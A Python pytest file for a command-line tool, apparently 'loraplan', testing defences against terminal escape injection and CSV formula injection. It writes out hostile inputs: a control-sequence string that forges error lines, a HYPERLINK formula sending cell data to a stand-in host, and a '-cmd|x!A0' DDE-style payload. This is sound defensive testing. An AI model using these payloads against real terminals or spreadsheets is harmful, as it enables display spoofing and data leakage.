"""Texts from strangers: no escape sequence on the terminal, no line like one of ours, no formula in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pytest
from command_line import CommandLine
from test_hostile_runs import SMALL

from calibrate.loads.synthetic_adapters import write_example_fleet
from sim.cells import one_line, text_cell
from sim.results.point import Metric, Point
from sim.results.run_directory.result_files import points_csv
from sim.spec.sections.trace_source import Trace
from sim.studies.trace.fits import TrafficModel, weights_text
from sim.traffic.popularity import read_weights
from sim.traffic.traces.export import write_plain
from sim.traffic.traces.read import read_trace

EVIL = "\x1b[31mred\x1b]0;title\x07\x9b2J\u202e\rerror: forged\nerror: forged\x7f"


@pytest.fixture
def printed(loraplan: CommandLine, tmp_path: Path) -> Callable[..., tuple[int, str]]:
    """Run a command in a folder with a scenario; return its exit code and all it printed."""
    (tmp_path / "s.yaml").write_text(SMALL)
    loraplan.headroom = True

    def run(*arguments: str) -> tuple[int, str]:
        ended = loraplan(*arguments)
        return ended.code, ended.out + ended.err

    return run


def harmless(text: str) -> bool:
    lines = text.split("\n")
    return all(map(str.isprintable, lines)) and not any(line.strip().startswith("error: forged") for line in lines)


def spoil(run: Path) -> None:
    """Put hostile text wherever a run directory has free text."""
    manifest = json.loads((run / "manifest.json").read_text())
    manifest.update(command=EVIL, code=EVIL, started_at=EVIL, description=EVIL)
    manifest["name"] += EVIL
    if manifest.get("profile"):
        manifest["profile"].update(description=EVIL, name=EVIL)
    (run / "manifest.json").write_text(json.dumps(manifest))
    for file in (run / "points").glob("*.json"):
        data = json.loads(file.read_text())
        point = data["point"]
        point["warnings"] = [f"look: {EVIL}"]
        point["events"] = [{"t_s": 1.0, "kind": EVIL, "text": EVIL}]
        for metric in point["metrics"].values():
            metric["note"] = EVIL
        for group in point.get("groups", ()):
            group["name"] = EVIL
        file.write_text(json.dumps(data))


RUN = ("run", "s.yaml", "--no-headroom", "--out", "out")
PLAN = ("plan", "s.yaml", "--minimize", "cache.gpu.slots=4..6", "--no-headroom", "--out", "out")
SWEEP = ("sweep", "s.yaml", "--over", "cache.gpu.slots=4,8", "--out", "out")


@pytest.mark.promise(
    "Whatever is printed on a terminal has control characters as escapes",
    "and line breaks of untrusted text too: it cannot look like a line of loraplan's own output.",
)
@pytest.mark.parametrize(
    ("made", "then"),
    [
        (RUN, RUN),
        (RUN, (*RUN, "--json")),
        (SWEEP, SWEEP),
        (PLAN, PLAN),
        (PLAN, (*PLAN, "--json")),
        (RUN, ("report", "out")),
        (RUN, ("compare", "out", "out", "--out", "c")),
        (RUN, ("compare", "out", "out", "--json")),
    ],
)
def test_a_strangers_run_prints_plain_text(
    printed: Callable[..., tuple[int, str]], tmp_path: Path, made: tuple[str, ...], then: tuple[str, ...]
) -> None:
    assert printed(*made)[0] == 0
    spoil(tmp_path / "out")
    code, text = printed(*then)
    assert code == 0, text
    assert harmless(text)
    if then in (RUN, SWEEP):
        assert r"note: look: \x1b[31mred\x1b]0;title\x07\x9b2J\u202e\rerror: forged\nerror: forged\x7f" in text


@pytest.mark.promise("Whatever is printed on a terminal has control characters as escapes")
@pytest.mark.parametrize("options", [(), ("--json",)])
@pytest.mark.parametrize("command", ["adapters", "vet"])
def test_names_of_adapter_folders_are_plain_text(
    printed: Callable[..., tuple[int, str]], tmp_path: Path, command: str, options: tuple[str, ...]
) -> None:
    write_example_fleet(tmp_path / "fleet")
    for number, folder in enumerate(sorted((tmp_path / "fleet").iterdir())[:4]):
        config = json.loads((folder / "adapter_config.json").read_text())
        (folder / "adapter_config.json").write_text(json.dumps({**config, "base_model_name_or_path": EVIL}))
        folder.rename(folder.with_name(f"{number}{EVIL}"))
    (tmp_path / "fleet" / f"broken{EVIL}").mkdir()
    (tmp_path / "fleet" / f"broken{EVIL}" / "adapter_config.json").write_text("{")
    code, text = printed(command, "fleet", *options)
    assert code == 0, text
    assert harmless(text)


@pytest.mark.promise("Whatever is printed on a terminal has control characters as escapes")
def test_paths_keys_and_arguments_are_plain_text(printed: Callable[..., tuple[int, str]], tmp_path: Path) -> None:
    rows = "".join(f"{i},a{i % 3},10,5\n" for i in range(60))
    (tmp_path / f"t{EVIL}.csv").write_text("timestamp_s,adapter_id,input_tokens,output_tokens\n" + rows)
    for line in (
        ("trace", f"t{EVIL}.csv"),
        ("cache", f"t{EVIL}.csv", "--slots", "1"),
        ("run", "s.yaml", EVIL),
        ("check", "s.yaml", "--set", f"{EVIL}=1"),
        ("check", EVIL),
        (EVIL,),
        ("run", f"--{EVIL}"),
    ):
        code, text = printed(*line)
        assert code in (0, 2), text
        assert harmless(text), text


def test_a_line_is_one_line() -> None:
    assert one_line("a\nb\r\x1b[0m\u2028\ud800") == r"a\nb\r\x1b[0m\u2028\ud800"
    assert one_line("a\x1b]0;x\x07\u202eb\r\ud800") == r"a\x1b]0;x\x07\u202eb\r\ud800"
    assert one_line("größer → 5 µs") == "größer → 5 µs"
    assert one_line("5\xa0GB\u202f≤\u2009x") == "5 GB ≤ x"


FORMULA = '=HYPERLINK("http://x/"&A1)'


@pytest.mark.promise("Cells of CSV files that a spreadsheet would run as a formula get a quote before them")
@pytest.mark.parametrize("text", [FORMULA, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "-cmd|x!A0"])
def test_formulas_become_text(text: str) -> None:
    assert text_cell(text) == f"'{text}"


@pytest.mark.promise("(numbers such as `-1` stay)")
@pytest.mark.parametrize("text", ["-1", "-1.5e-9", "1", "a=b", "adapter-1", "", "’=1"])
def test_numbers_and_other_text_stay(text: str) -> None:
    assert text_cell(text) == text


@pytest.mark.promise(
    "Nothing is injected.", "Cells of CSV files that a spreadsheet would run as a formula get a quote before them"
)
def test_points_have_no_formulas() -> None:
    point = Point({FORMULA: FORMULA}, {FORMULA: Metric(-1.0, unit=FORMULA)})
    rows = list(csv.reader(io.StringIO(points_csv([point]))))
    assert rows[0][0] == rows[1][0] == rows[1][1] == rows[1][5] == f"'{FORMULA}"
    assert rows[1][2] == "-1.0"


@pytest.mark.promise("So does the name of an adapter in a converted trace; Parquet keeps it as it is.")
def test_converted_traces_have_no_formulas_and_read_back(tmp_path: Path) -> None:
    lines = [
        ["timestamp_s", "adapter_id", "input_tokens", "output_tokens"],
        ["0", FORMULA, "1", "1"],
        ["1", "-1", "1", "1"],
    ]
    with (tmp_path / "t.csv").open("w", newline="") as out:
        csv.writer(out).writerows(lines)
    trace = read_trace(Trace(file=str(tmp_path / "t.csv")))
    with (tmp_path / "out.csv").open("wb") as raw:
        write_plain(trace, raw, ".csv")
    assert read_trace(Trace(file=str(tmp_path / "out.csv"))).names == (f"'{FORMULA}", "-1")
    with (tmp_path / "out.parquet").open("wb") as raw:
        write_plain(trace, raw, ".parquet")
    assert read_trace(Trace(file=str(tmp_path / "out.parquet"))).names == (FORMULA, "-1")


def test_weights_of_fitted_traffic_have_no_formulas(tmp_path: Path) -> None:
    model = object.__new__(TrafficModel)
    for name, value in (("weights", np.array([1.0, 2.0])), ("cvs", None)):
        object.__setattr__(model, name, value)
    (tmp_path / "w.csv").write_text(weights_text(model, [FORMULA, "b"]))
    assert read_weights(str(tmp_path / "w.csv")).names == (f"'{FORMULA}", "b")
